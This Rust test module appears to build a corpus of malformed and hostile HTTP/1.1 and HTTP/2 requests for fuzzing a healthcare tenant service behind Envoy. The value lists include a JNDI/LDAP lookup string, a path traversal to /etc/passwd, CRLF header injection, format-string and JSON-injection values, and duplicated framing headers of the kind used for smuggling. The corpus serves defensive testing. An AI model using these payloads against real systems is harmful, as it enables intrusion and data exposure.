//! The corpus: headers, paths, methods and ids that no well-meaning client sends. Data first; each list is crossed with
//! the places where it can hurt.

use anyhow::Result;
use careplane_integration::IdentityProvider;

use crate::{
    Hostile, bulk, framing,
    http1::{self, Header},
    http2, tokens,
};

/// Headers that careplane reads or writes, or that Envoy's tracer reads for it.
const HEADERS: [&str; 14] = [
    "x-tenant-id",
    "x-user-id",
    "x-correlation-id",
    "x-request-id",
    "traceparent",
    "tracestate",
    "x-healthcare-context",
    "x-compliance-level",
    "x-compliance-flags",
    "x-tenant-pool",
    "x-release-cohort",
    "authorization",
    "content-type",
    "x-anything",
];

/// Bytes that are no text, or not what they seem.
const BYTES: [(&str, &[u8]); 9] = [
    ("0x80", b"\x80"),
    ("0xff", b"\xff\xff\xff"),
    ("a truncated character", b"caf\xc3"),
    ("a broken character", b"\xc3\x28"),
    ("a surrogate", b"\xed\xa0\x80"),
    ("beyond Unicode", b"\xf4\x90\x80\x80"),
    ("an overlong slash", b"..\xc0\xaf"),
    ("a byte order mark", b"\xef\xbb\xbfcare-home-0001"),
    ("bidirectional text", "care\u{202e}emoh".as_bytes()),
];

/// Values that mean something to other programs.
const VALUES: [(&str, &[u8]); 12] = [
    ("empty", b""),
    ("white space", b" \t "),
    ("a tab inside", b"a\tb"),
    ("a control byte", b"a\x01b"),
    ("delete", b"a\x7fb"),
    ("a list", b"care-home-0001,care-home-0042"),
    ("quotes", br#"","tenant":{"id":"x"},"a":""#),
    ("a format", b"%s%n%x{}{0}%REQ(authorization)%"),
    ("a lookup", b"${jndi:ldap://x/a}"),
    ("a backslash", br"a\u0000\"),
    ("an NHS number", b"943 476 5919"),
    ("eight bytes", b"\x40\x59\x21\x21\x21\x21\x21\x21"),
];

/// Names of headers, most of which are none.
const NAMES: [(&str, &[u8]); 22] = [
    ("0x80", b"x-\x80"),
    ("0xff", b"\xff\xfe"),
    ("UTF-8", "x-caf\u{e9}".as_bytes()),
    ("no name", b""),
    ("a space inside", b"x tenant id"),
    ("a space behind", b"x-tenant-id "),
    ("a space before", b" x-tenant-id"),
    ("a tab", b"x-\ttenant"),
    ("upper case", b"X-TENANT-ID"),
    ("underscores", b"x_tenant_id"),
    ("a control byte", b"x-\x01"),
    ("NUL", b"x-tenant-id\0"),
    ("a colon before", b":tenant"),
    ("a pseudo-header", b":path"),
    ("another pseudo-header", b":authority"),
    ("an unknown pseudo-header", b":status"),
    ("brackets", b"(x)[y]{z}"),
    ("every mark that is allowed", b"!#$%&'*+-.^_`|~"),
    ("quotes", b"\"x\""),
    ("a slash", b"x/y"),
    ("a NUL alone", b"\0"),
    ("a prefix of Envoy's", b"x-envoy-force-trace"),
];

/// Paths, most of which are none.
const PATHS: [&str; 48] = [
    "",
    "*",
    "x",
    "//",
    "///",
    "/%",
    "/%0",
    "/%00",
    "/%zz",
    "/%u0041",
    "/%ff%fe",
    "/%c0%af",
    "/%0d%0aset-cookie:%20a=b",
    "/?",
    "/??",
    "/?%",
    "/#",
    "/#x?y",
    "/;",
    "/;;;/;",
    "/\\",
    "/\\..\\",
    "/.",
    "/..",
    "/...",
    "/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/",
    "/..%2f..%2f",
    "/..;/..;/",
    "/a/./b/../c//d/%2e",
    "/{id}",
    "/{*rest}",
    "/api/v1/residents/{id}",
    "/api/v1/residents/",
    "/api/v1/residents//",
    "/api/v1/residents/%00",
    "/api/v1/residents/%ff",
    "/api/v1/tenants//x",
    "/api/v1/tenants/%00/x",
    "/api/v1/tenants/%ff/x",
    "/api/v1/tenants/a%20b/x",
    "/api/v1/tenants/%2e%2e/x",
    "/api/v1/tenants/care-home-0042/",
    "/api/v1/health-records/9434765919?nhs=943%20476%205919",
    "http://b/elsewhere",
    "http://",
    "https://user:password@b:99999/x",
    "ftp://b/x",
];

const METHODS: [&[u8]; 15] = [
    b"get",
    b"BREW",
    b"CONNECT",
    b"TRACE",
    b"OPTIONS",
    b"PRI",
    b"M-SEARCH",
    b"DELETE",
    b"PATCH",
    b"G\x80T",
    b"GE T",
    b"{}",
    b"9434765919",
    b"",
    b"\0",
];

/// Request ids: what is not a UUID, and what nearly is.
const REQUEST_IDS: [&str; 16] = [
    "0",
    "00000000",
    "00000000-0000-4000-8000-00000000000",
    "00000000-0000-4000-8000-0000000000000",
    "00000000-0000-4000-8000-00000000000g",
    "0000000g-0000-4000-8000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
    "00000000-0000-9000-8000-000000000000",
    "00000000-0000-a000-8000-000000000000",
    "00000000-0000-b000-8000-000000000000",
    "00000000-0000-x000-8000-000000000000",
    "------------------------------------",
    "{00000000-0000-4000-8000-000000000000}",
    "+0000000-0000-4000-8000-000000000000",
    "-0000000-0000-4000-8000-000000000000",
];

/// Trace parents (W3C Trace Context §3.2), nearly all of which are none.
const TRACE_PARENTS: [&str; 18] = [
    "00",
    "00-",
    "00--",
    "00---",
    "-",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-0",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-zz",
    "ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    "cc-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-what-the-future-brings",
    "00-00000000000000000000000000000000-b7ad6b7169203331-01",
    "00-0af7651916cd43dd8448eb211c80319c-0000000000000000-01",
    "00-0AF7651916CD43DD8448EB211C80319C-B7AD6B7169203331-01",
    "00-0af7651916cd43dd8448eb211c80319-b7ad6b71692033311-01",
    "\u{660}0-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
];

/// The whole corpus, in an order that never changes.
pub fn all(identity: &IdentityProvider) -> Result<Vec<Hostile>> {
    let parts = [
        headers(),
        names(),
        repetitions(),
        paths(),
        methods(),
        ids(),
        bulk::all(),
        framing::all(),
        tokens::all(identity)?,
    ];
    Ok(parts.into_iter().flatten().collect())
}

fn headers() -> Vec<Hostile> {
    let values = BYTES.iter().chain(&VALUES);
    let crossed = values.flat_map(|(what, value)| HEADERS.iter().map(move |name| (*what, *name, *value)));
    crossed
        .flat_map(|(what, name, value)| {
            let header: [Header<'_>; 1] = [(name.as_bytes(), value)];
            let label = format!("{name}: {what}");
            [http1::get(&label, "/elsewhere", &header), http2::get(&label, &header)]
        })
        .collect()
}

fn names() -> Vec<Hostile> {
    let both = NAMES.iter().flat_map(|(what, name)| {
        let label = format!("a name: {what}");
        [http1::get(&label, "/elsewhere", &[(name, b"x")]), http2::get(&label, &[(name, b"x")])]
    });
    both.collect()
}

fn repetitions() -> Vec<Hostile> {
    let more =
        ["host", "content-length", "transfer-encoding", "cookie", "te", "x-forwarded-for", "x-forwarded-client-cert"];
    let patterns: [(&str, &[&[u8]]); 5] = [
        ("twice the same", &[b"a", b"a"]),
        ("twice", &[b"care-home-0001", b"care-home-0042"]),
        ("empty and not", &[b"", b"a"]),
        ("twice, bytes", &[b"\xff", b"\x80"]),
        ("thirty times", &[&b"a"[..]; 30]),
    ];
    let names = HEADERS.iter().chain(&more);
    names
        .flat_map(|name| {
            patterns.iter().flat_map(move |(what, values)| {
                let repeated: Vec<Header<'_>> = values.iter().map(|value| (name.as_bytes(), *value)).collect();
                let label = format!("{name}: {what}");
                [http1::get(&label, "/elsewhere", &repeated), http2::get(&label, &repeated)]
            })
        })
        .collect()
}

fn paths() -> Vec<Hostile> {
    let lines = PATHS.iter().map(|path| http1::get(format!("a path: {path:?}"), path, &[]));
    let pseudo = PATHS.iter().map(|path| {
        let mut headers = http2::GET;
        headers[3].1 = path.as_bytes();
        http2::only(format!("a path: {path:?}"), &headers)
    });
    let bytes = [&b"/\xff\xfe"[..], b"/caf\xc3\xa9", b"/a\x01b", b"/a\x7fb", b"/a b", b"/a\0b", b"\x80"];
    let odd = bytes.iter().flat_map(|path| {
        let label = format!("a path: {}", path.escape_ascii());
        let mut headers = http2::GET;
        headers[3].1 = path;
        let line = [b"GET ", *path, b" HTTP/1.1"].concat();
        [http1::raw(&label, http1::request(line, &[], b"")), http2::only(&label, &headers)]
    });
    lines.chain(pseudo).chain(odd).collect()
}

fn methods() -> Vec<Hostile> {
    let both = METHODS.iter().flat_map(|method| {
        let label = format!("a method: {}", method.escape_ascii());
        let mut headers = http2::GET;
        headers[0].1 = method;
        let line = [*method, b" /api/v1/residents/7 HTTP/1.1"].concat();
        [http1::raw(&label, http1::request(line, &[], b"")), http2::only(&label, &headers)]
    });
    both.collect()
}

fn ids() -> Vec<Hostile> {
    let requests = REQUEST_IDS.iter().map(|id| ("x-request-id", id));
    let traces = TRACE_PARENTS.iter().map(|id| ("traceparent", id));
    requests
        .chain(traces)
        .map(|(name, id)| http1::get(format!("{name}: {id}"), "/x", &[(name.as_bytes(), id.as_bytes())]))
        .collect()
}
